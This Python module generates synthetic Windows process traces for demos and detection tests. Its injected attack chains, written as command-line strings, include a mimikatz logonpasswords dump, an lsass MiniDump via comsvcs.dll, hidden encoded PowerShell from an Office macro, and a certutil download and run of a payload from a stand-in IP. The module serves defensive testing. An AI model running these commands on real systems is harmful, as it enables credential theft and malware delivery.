"""Synthetic process traces: small realistic scenarios for notebooks, demos and tests.

>>> events = quickstart_scenario()
>>> [e.operation for e in events][:3]
['create', 'create', 'create']
"""
from __future__ import annotations

from ..filetime import ns_to_filetime
from ..hooks.process import ProcessEvent

START_NS = 1_764_064_800 * 10**9  # 2025-11-25 10:00:00 UTC
USER_SID = "S-1-5-21-3623811015-3361044348-30300820-1013"


def _ft(ns: int) -> int:
    return ns_to_filetime(ns)


def quickstart_scenario(start_ns: int = START_NS, host: str = "WS-042") -> list[ProcessEvent]:
    """A user's shell spawning tools: explorer → cmd → whoami/ipconfig/powershell; an encoded
    PowerShell command and a credential dumper that a deny policy should stop; then exits."""
    user = dict(token_sid=USER_SID, account_name="alice", account_domain="CONTOSO", host=host)
    system = dict(token_sid="S-1-5-18", host=host)
    sys32 = r"\??\C:\Windows\System32"
    plan = [
        # (seconds, pid, parent, creator thread, image, command line, identity)
        (0.0, 4120, 700, 704, rf"{sys32}\userinit.exe", "userinit.exe", system),
        (0.4, 4188, 4120, 4124, r"\??\C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", user),
        (12.0, 5200, 4188, 4190, rf"{sys32}\cmd.exe", r'"C:\Windows\system32\cmd.exe"', user),
        (14.5, 5232, 5200, 5204, rf"{sys32}\whoami.exe", "whoami /all", user),
        (16.0, 5240, 5200, 5204, rf"{sys32}\ipconfig.exe", "ipconfig /all", user),
        (20.0, 5300, 5200, 5204, rf"{sys32}\WindowsPowerShell\v1.0\powershell.exe",
         "powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", user),
        (22.0, 5310, 5200, 5204, r"\??\C:\Users\alice\Downloads\mimikatz.exe",
         'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit', user),
        (25.0, 5320, 5200, 5204, rf"{sys32}\notepad.exe", r"notepad.exe C:\Users\alice\notes.txt", user),
    ]
    events = []
    for sec, pid, parent, thread, image, cmd, ident in plan:
        t = start_ns + int(sec * 1e9)
        events.append(ProcessEvent.create(pid, parent, image, cmd, creator=parent,
                                          creator_thread=thread, time=t, creation_time=_ft(t),
                                          **ident))
    exits = [(15.0, 5232, 0), (17.0, 5240, 0), (40.0, 5320, 0), (41.0, 5200, 0)]
    created = {e.process_id: e for e in events}
    for sec, pid, code in exits:
        t = start_ns + int(sec * 1e9)
        events.append(ProcessEvent.delete(pid, exit_code=code, time=t,
                                          creation_time=created[pid].creation_time,
                                          exit_time=_ft(t), host=host))
    events.sort(key=lambda e: e.time)
    return events


# ---------------------------------------------------------------------------------------------
# A seeded generator of realistic Windows sessions, at any size
# ---------------------------------------------------------------------------------------------

_S32 = r"C:\Windows\System32"
# image -> (command line, lifetime seconds (None: runs to the end), children it may start)
_CATALOGUE: dict[str, tuple[str, float | None, tuple[str, ...]]] = {
    rf"{_S32}\smss.exe": (r"\SystemRoot\System32\smss.exe", None, ()),
    rf"{_S32}\csrss.exe": ("%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows", None, ()),
    rf"{_S32}\wininit.exe": ("wininit.exe", None, ()),
    rf"{_S32}\services.exe": (rf"{_S32}\services.exe", None, (rf"{_S32}\svchost.exe",)),
    rf"{_S32}\lsass.exe": (rf"{_S32}\lsass.exe", None, ()),
    rf"{_S32}\svchost.exe": (rf"{_S32}\svchost.exe -k netsvcs -p", None,
                             (rf"{_S32}\taskhostw.exe", rf"{_S32}\wbem\WmiPrvSE.exe",
                              rf"{_S32}\SearchProtocolHost.exe", rf"{_S32}\conhost.exe")),
    rf"{_S32}\winlogon.exe": ("winlogon.exe", None, ()),
    rf"{_S32}\userinit.exe": (rf"{_S32}\userinit.exe", 5.0, ()),
    r"C:\Windows\explorer.exe": (r"C:\Windows\Explorer.EXE", None,
                                 (rf"{_S32}\cmd.exe", rf"{_S32}\notepad.exe",
                                  r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
                                  r"C:\Program Files\Google\Chrome\Application\chrome.exe",
                                  rf"{_S32}\WindowsPowerShell\v1.0\powershell.exe")),
    rf"{_S32}\cmd.exe": ('"C:\\Windows\\system32\\cmd.exe"', 300.0,
                         (rf"{_S32}\PING.EXE", rf"{_S32}\whoami.exe", rf"{_S32}\ipconfig.exe",
                          rf"{_S32}\net.exe", rf"{_S32}\conhost.exe")),
    rf"{_S32}\WindowsPowerShell\v1.0\powershell.exe": ("powershell.exe -NoProfile", 200.0,
                                                        (rf"{_S32}\conhost.exe", rf"{_S32}\whoami.exe")),
    r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE":
        ('"WINWORD.EXE" /n "C:\\Users\\alice\\Documents\\report.docx"', 900.0, ()),
    r"C:\Program Files\Google\Chrome\Application\chrome.exe":
        ('"chrome.exe"', 1200.0, ()),
    rf"{_S32}\notepad.exe": ("notepad.exe", 600.0, ()),
    rf"{_S32}\taskhostw.exe": ("taskhostw.exe", 30.0, ()),
    rf"{_S32}\wbem\WmiPrvSE.exe": (rf"{_S32}\wbem\wmiprvse.exe -Embedding", 60.0, ()),
    rf"{_S32}\SearchProtocolHost.exe": ("SearchProtocolHost.exe Global\\UsGthrFltPipe", 20.0, ()),
    rf"{_S32}\conhost.exe": (r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", 10.0, ()),
    rf"{_S32}\PING.EXE": ("ping -n 3 127.0.0.1", 3.0, ()),
    rf"{_S32}\whoami.exe": ("whoami /all", 0.5, ()),
    rf"{_S32}\ipconfig.exe": ("ipconfig /all", 0.5, ()),
    rf"{_S32}\net.exe": ("net user", 0.8, ()),
}
# how often each kind of live process starts something, relative to a svchost
_WEIGHTS = {"explorer.exe": 8.0, "cmd.exe": 5.0, "powershell.exe": 3.0, "services.exe": 0.5}
# scenario -> chain of (parent image or None for "a live explorer", image, command line, life)
ATTACKS: dict[str, list[tuple[str, str, float]]] = {
    "office_macro": [
        (r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
         '"WINWORD.EXE" /n "C:\\Users\\alice\\Downloads\\invoice.doc"', 60.0),
        (rf"{_S32}\wscript.exe", r'wscript.exe "C:\Users\alice\AppData\Local\Temp\a.vbs"', 5.0),
        (rf"{_S32}\WindowsPowerShell\v1.0\powershell.exe",
         "powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", 20.0),
    ],
    "lolbin_download": [
        (rf"{_S32}\cmd.exe", '"C:\\Windows\\system32\\cmd.exe"', 30.0),
        (rf"{_S32}\certutil.exe",
         r"certutil.exe -urlcache -split -f http://203.0.113.7/p.txt C:\Users\Public\p.exe", 2.0),
        (r"C:\Users\Public\p.exe", r"C:\Users\Public\p.exe", 15.0),
    ],
    "credential_dump": [
        (rf"{_S32}\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe", 30.0),
        (rf"{_S32}\rundll32.exe",
         r"rundll32.exe C:\windows\System32\comsvcs.dll MiniDump {lsass} C:\Temp\l.dmp full", 3.0),
    ],
}


# how often each kind of spawner starts something (the shells: cmd.exe 5, powershell.exe 3)
_STATIC_SPAWNERS = [("explorer.exe", 8.0), ("services.exe", 0.5)] + [("svchost.exe", 1.0)] * 6
SHELL_SHARE = 0.35          # of user activity, started by a live shell (cmd/powershell)
RUNTIME_SVCHOST_LIFE = 600.0
PID_POOLS = (64, 1024)      # freed pids come back after about this many creations


def generate_session(n_events: int = 10_000, seed: int = 0, host: str = "WS-001",
                     start_ns: int = START_NS, attacks: tuple[str, ...] = tuple(ATTACKS),
                     rate_per_s: float = 2.0):
    """A synthetic Windows session in the trace schema (a DataFrame, `source = "synthetic"`):
    boot (smss, csrss, wininit → services → svchost…, lsass; winlogon → userinit → explorer),
    then a user's activity (shells, Office, browsers, ping/whoami… with exits and PID reuse:
    freed PIDs, multiples of 4, are handed out again), with each scenario of `attacks`
    (`ATTACKS`: office_macro, lolbin_download, credential_dump) injected once at a random time.
    Seeded and reproducible; exactly `n_events` rows (at least the boot's).

    Built column-wise (numpy), in time linear in `n_events`: every process gets its start
    and exit first, then its parent among the processes alive at its start (a child never
    starts after its parent exited), then a pid no live process holds."""
    import numpy as np
    rng = np.random.default_rng(seed)
    m = max(n_events // 2 + 64, 64)
    while True:
        frame = _session(rng, m, n_events, host, start_ns, attacks, rate_per_s)
        if frame is not None:
            return frame
        m *= 2


def _session(rng, m, n_events, host, start_ns, attacks, rate_per_s):
    import numpy as np

    S = _S32
    cat_images = list(_CATALOGUE)
    # every image the session can hold; per image: command line, lifetime (nan: none)
    images = cat_images + [im for name in ATTACKS for im, _, _ in ATTACKS[name]
                           if im not in cat_images]
    images = list(dict.fromkeys(images))
    code = {im: i for i, im in enumerate(images)}
    procs: dict[str, list] = {k: [] for k in ("start", "image", "cmd", "life", "parent", "user")}
    cmds: list[str] = [ _CATALOGUE[im][0] if im in _CATALOGUE else im for im in images]

    def add(start, image, parent, life, user=True, cmd=None):
        procs["start"].append(start)
        procs["image"].append(code[image])
        if cmd is not None:
            cmds.append(cmd)
            procs["cmd"].append(len(cmds) - 1)
        else:
            procs["cmd"].append(code[image])
        procs["life"].append(np.nan if life is None else life)
        procs["parent"].append(parent)
        procs["user"].append(user)
        return len(procs["start"]) - 1

    # boot: fixed, a handful of processes
    t = start_ns
    smss = add(t, rf"{S}\smss.exe", -1, None, False)
    spawner_at: dict[str, int] = {}
    svchosts = []
    for image in ("csrss.exe", "wininit.exe", "winlogon.exe"):
        t += 50_000_000
        proc = add(t, rf"{S}\{image}", smss, None, False)
        if image == "wininit.exe":
            spawner_at["services.exe"] = add(t, rf"{S}\services.exe", proc, None, False)
            lsass = add(t, rf"{S}\lsass.exe", proc, None, False)
            for _ in range(6):
                t += 20_000_000
                svchosts.append(add(t, rf"{S}\svchost.exe", spawner_at["services.exe"], None, False))
        if image == "winlogon.exe":
            t += 2_000_000_000
            init = add(t, rf"{S}\userinit.exe", proc, 5.0)
            t += 300_000_000
            spawner_at["explorer.exe"] = add(t, r"C:\Windows\explorer.exe", init, None)
    boot = len(procs["start"])
    # the user's activity: m creations, a Poisson process
    times = t + np.cumsum((rng.exponential(1 / rate_per_s, m) * 1e9).astype(np.int64) + 1)
    statics = [spawner_at["explorer.exe"], spawner_at["services.exe"]] + svchosts
    weights = np.array([w for _, w in _STATIC_SPAWNERS])
    which = rng.choice(len(statics), m, p=weights / weights.sum())
    parent = np.array(statics, np.int64)[which]
    shell_pick = rng.random(m) < SHELL_SHARE
    # a child's image: one of its parent's catalogue children, chosen uniformly
    def pick_children(parent_image: str, count: int):
        kids = _CATALOGUE[parent_image][2]
        return np.array([code[k] for k in kids], np.int64)[rng.integers(0, len(kids), count)]
    image = np.empty(m, np.int64)
    pimage = np.array(procs["image"], np.int64)[parent]
    for sp in set(pimage.tolist()):
        sel = pimage == sp
        image[sel] = pick_children(images[sp], int(sel.sum()))
    life = np.array([_CATALOGUE[im][1] if _CATALOGUE[im][1] is not None else np.nan
                     for im in images if im in _CATALOGUE] + [np.nan] * (len(images) - len(cat_images)))
    svchost = code[rf"{S}\svchost.exe"]
    draws = rng.exponential(1.0, m)

    def exit_times(image):
        life_of = life[image]
        life_of[image == svchost] = RUNTIME_SVCHOST_LIFE
        return np.where(np.isnan(life_of), np.iinfo(np.int64).max,
                        times + (draws * np.nan_to_num(life_of, nan=0.0) * 1e9).astype(np.int64) + 1)

    exits = exit_times(image)
    # shells (cmd/powershell started by a static spawner) and their children: a shell-picked
    # event is started by one of the last three shells started before it, if that one is still
    # alive; otherwise it stays the child of its static spawner
    shells = [code[rf"{S}\cmd.exe"], code[rf"{S}\WindowsPowerShell\v1.0\powershell.exe"]]
    is_shell = np.isin(image, shells) & ~shell_pick
    shell_idx = np.flatnonzero(is_shell)
    parent_is_event = np.full(m, -1, np.int64)
    if len(shell_idx):
        cand = np.searchsorted(times[shell_idx], times, side="left") - 1 - rng.integers(0, 3, m)
        cs = shell_idx[np.clip(cand, 0, None)]
        ok = shell_pick & (cand >= 0) & (exits[cs] > times) & (times[cs] < times)
        parent_is_event[ok] = cs[ok]
        for sh in shells:
            sel = ok & (image[cs] == sh)
            image[sel] = pick_children(images[sh], int(sel.sum()))
        exits = np.where(ok, exit_times(image), exits)    # shells keep theirs
    # attacks: chains started by explorer at random times in the first half
    chains = []
    where = np.sort(rng.integers(m // 10, max(m // 2, m // 10 + 1), len(attacks)))
    for at, name in zip(where.tolist(), attacks):
        tt = int(times[at]) + 1
        prev = spawner_at["explorer.exe"]
        members = []
        for im, cmd, lf in ATTACKS[name]:
            tt += int(rng.uniform(0.2, 3.0) * 1e9)
            end = tt + int(rng.exponential(lf) * 1e9) + 1
            members.append([tt, im, cmd.replace("{lsass}", "@LSASS@"), lf, end, prev])
            prev = None
        for a, b in zip(members, members[1:]):
            a[4] = max(a[4], b[0] + 1)          # a parent outlives its child's start
        chains.append(members)
    # all processes: boot, activity, attacks
    n_boot = boot
    b_start = np.array(procs["start"], np.int64)
    b_life = np.array(procs["life"], float)
    b_exit = np.where(np.isnan(b_life), np.iinfo(np.int64).max,
                      b_start + (rng.exponential(1.0, boot) * np.nan_to_num(b_life) * 1e9).astype(np.int64) + 1)
    # userinit starts explorer: it outlives that start
    b_exit[init] = max(b_exit[init], b_start[spawner_at["explorer.exe"]] + 1)
    start = [b_start, times]
    exit_ = [b_exit, exits]
    img = [np.array(procs["image"], np.int64), image]
    cmdc = [np.array(procs["cmd"], np.int64), image.copy()]
    par = [np.array(procs["parent"], np.int64),
           np.where(parent_is_event >= 0, parent_is_event + n_boot, parent)]
    usr = [np.array(procs["user"], bool), np.ones(m, bool)]
    k = n_boot + m
    for members in chains:
        prev_index = None
        for tt, im, cmd, lf, end, p in members:
            if cmd not in cmds:
                cmds.append(cmd)
            start.append(np.array([tt], np.int64))
            exit_.append(np.array([end], np.int64))
            img.append(np.array([code[im]], np.int64))
            cmdc.append(np.array([cmds.index(cmd)], np.int64))
            par.append(np.array([p if p is not None else prev_index], np.int64))
            usr.append(np.array([True]))
            prev_index = k
            k += 1
    start, exit_, img, cmdc, par, usr = (np.concatenate(x) for x in (start, exit_, img, cmdc, par, usr))
    n = len(start)
    # the rows: creates and exits, in time order, cut at n_events
    when = np.concatenate([start, exit_])
    kind = np.concatenate([np.zeros(n, np.int8), np.ones(n, np.int8)])
    who = np.concatenate([np.arange(n), np.arange(n)])
    live_row = when < np.iinfo(np.int64).max
    when, kind, who = when[live_row], kind[live_row], who[live_row]
    order = np.lexsort((kind, when))
    if len(order) < n_events and n_events > boot:
        return None
    order = order[:max(n_events, 0)] if n_events >= boot else order[:boot]
    last_time = when[order[-1]] if len(order) else start_ns
    chain_rows = [tt for members in chains for tt, *_ in members]
    if chain_rows and max(chain_rows) > last_time:
        return None
    when, kind, who = when[order], kind[order], who[order]
    # processes that exit after the cut are still running
    ends = np.where(exit_ <= last_time, exit_, np.iinfo(np.int64).max)
    pid = _assign_pids(start, ends, rng)
    cmds = [c.replace("@LSASS@", str(int(pid[lsass]))) for c in cmds]
    return _rows(when, kind, who, start, img, cmdc, par, usr, pid, rng, host, images, cmds)


def _assign_pids(start, end, rng):
    """A pid per process (multiples of 4) such that no two processes holding the same pid are
    alive at once: processes take slots of a small pool in turn (freed pids come back a few
    dozen creations later); one still alive when its slot comes round again moves to a
    larger pool, then to a pid of its own."""
    import numpy as np
    n = len(start)
    order = np.argsort(start, kind="stable")
    pid = np.zeros(n, np.int64)
    pool_pids = rng.permutation(np.arange(8, 8004, 4))
    offset = 0
    todo = order
    for size in PID_POOLS:
        slots = pool_pids[offset:offset + size]
        offset += size
        if len(todo) == 0:
            break
        nxt = np.full(len(todo), np.iinfo(np.int64).max)
        nxt[:-size] = start[todo[size:]] if len(todo) > size else nxt[:0]
        keep = end[todo] < nxt
        # a process that keeps its slot frees it for the next in turn; a moved one too
        pid[todo[keep]] = slots[np.flatnonzero(keep) % size]
        todo = todo[~keep]
    pid[todo] = 8004 + 4 * np.arange(len(todo))
    return pid


def _rows(when, kind, who, start, img, cmdc, par, usr, pid, rng, host, images, cmds):
    import numpy as np
    import pandas as pd
    import pyarrow as pa
    import pyarrow.compute as pc

    from ..filetime import FILETIME_EPOCH_OFFSET
    from .schema import COLUMNS
    rows = len(when)
    create = kind == 0
    ft = start // 100 + FILETIME_EPOCH_OFFSET
    key = pc.binary_join_element_wise(pa.array(np.full(len(pid), host)), pa.array(pid).cast(pa.string()),
                                      pa.array(ft).cast(pa.string()), ":").cast(pa.large_string())
    p = par[who]
    has_parent = p >= 0
    ppid = np.where(p >= 0, pid[np.maximum(p, 0)], 4)       # boot's smss: System (4)
    pkey = pc.if_else(pa.array(has_parent), key.take(pa.array(np.maximum(p, 0))),
                   pa.scalar(None, pa.large_string()))
    na = lambda v, mask: pd.arrays.IntegerArray(v.astype(np.int64, copy=False), ~mask)
    exit_code = np.where(rng.random(rows) < 0.9, 0,
                         np.array([1, 0xC000013A, 0xFFFFFFFF], np.int64)[rng.integers(0, 3, rows)])
    thread = np.where(has_parent, rng.integers(1, 5000, rows) * 4, 0)
    user = usr[who]

    def strings(values: list[str], codes, mask=None):
        arr = pa.DictionaryArray.from_arrays(pa.array(codes.astype(np.int32),
                                                      mask=None if mask is None else ~mask),
                                             pa.array(values, pa.large_string()))
        return _str_series(arr.cast(pa.large_string()))

    def const(text, mask=None):
        return strings([text], np.zeros(rows, np.int64), mask)

    ident = np.where(user, 0, 1)
    cols = {
        "time": pd.Series(pd.DatetimeIndex(when.astype("datetime64[ns]")).tz_localize("UTC"),
                          copy=False),
        "operation": strings(["create", "delete"], kind.astype(np.int64)),
        "process_id": na(pid[who], np.ones(rows, bool)),
        "parent_process_id": na(ppid, np.ones(rows, bool)),
        "creating_process_id": na(ppid, create),
        "creating_thread_id": na(thread, create),
        "creation_time": na(ft[who], np.ones(rows, bool)),
        "exit_time": na(when // 100 + FILETIME_EPOCH_OFFSET, ~create),
        "exit_code": na(exit_code, ~create),
        "image_path": strings(images, img[who]),
        "command_line": strings(cmds, cmdc[who], create),
        "token_sid": strings([USER_SID, "S-1-5-18"], ident, create),
        "account_name": strings(["alice", "SYSTEM"], ident, create),
        "account_domain": strings(["CONTOSO", "NT AUTHORITY"], ident, create),
        "host": const(host),
        "source": const("synthetic"),
        "process_key": _str_series(key.take(pa.array(who))),
        "parent_key": _str_series(pkey),
    }
    return pd.DataFrame({c: pd.Series(cols[c], copy=False) for c in COLUMNS}, columns=COLUMNS,
                        copy=False)


def _str_series(arr):
    import pandas as pd
    return pd.Series(arr.to_pandas(types_mapper={arr.type: pd.StringDtype("pyarrow")}.get)
                     if len(arr) else pd.array([], dtype="string"), dtype="string")


# ---------------------------------------------------------------------------------------------
# A fleet: one seeded session per host
# ---------------------------------------------------------------------------------------------

DAY_NS = 86_400 * 10**9


def fleet_host_names(hosts: int) -> list[str]:
    """`WS-0000`, `WS-0001`, ... (zero-padded so that name order is number order)."""
    width = max(4, len(str(max(hosts - 1, 0))))
    return [f"WS-{i:0{width}d}" for i in range(hosts)]


def fleet_sessions(hosts: int = 200, events_per_host: int = 500, seed: int = 0,
                   start_ns: int = START_NS, days: int = 3, attacked: float = 0.05,
                   rate_per_s: float = 2.0):
    """One `generate_session` frame per host (a generator, so a large fleet never has to be in
    memory at once): host `i` is named by `fleet_host_names`, seeded with `(seed, i)`, and starts
    at a random time within `days` days of `start_ns` (sessions that run past midnight span two
    day partitions). A share `attacked` of the hosts (at least one when > 0) each carry one
    scenario of `ATTACKS`, in turn; the others none, so the attack's parent → child pairs are
    rare across the fleet."""
    import numpy as np
    rng = np.random.default_rng([seed, hosts])
    n_attacked = max(1, round(attacked * hosts)) if attacked > 0 and hosts else 0
    chosen: list[int] = sorted(int(h) for h in rng.choice(hosts, n_attacked, replace=False)) \
        if n_attacked else []
    scenario = {h: name for h, name in zip(chosen, list(ATTACKS) * hosts)}
    offsets = rng.integers(0, max(days, 1) * DAY_NS, hosts)
    for i, name in enumerate(fleet_host_names(hosts)):
        attacks = (scenario[i],) if i in scenario else ()
        yield generate_session(events_per_host, seed=seed * 1_000_003 + i, host=name,
                               start_ns=start_ns + int(offsets[i]), attacks=attacks,
                               rate_per_s=rate_per_s)


def generate_fleet(hosts: int = 200, events_per_host: int = 500, seed: int = 0, **kw):
    """`fleet_sessions` as one frame (hosts in name order, each host's rows in time order).

    >>> fleet = generate_fleet(hosts=20, events_per_host=200)     # doctest: +SKIP
    >>> fleet.groupby("host").size().unique()                     # doctest: +SKIP
    array([200])
    """
    import pandas as pd
    return pd.concat(list(fleet_sessions(hosts, events_per_host, seed, **kw)),
                     ignore_index=True)
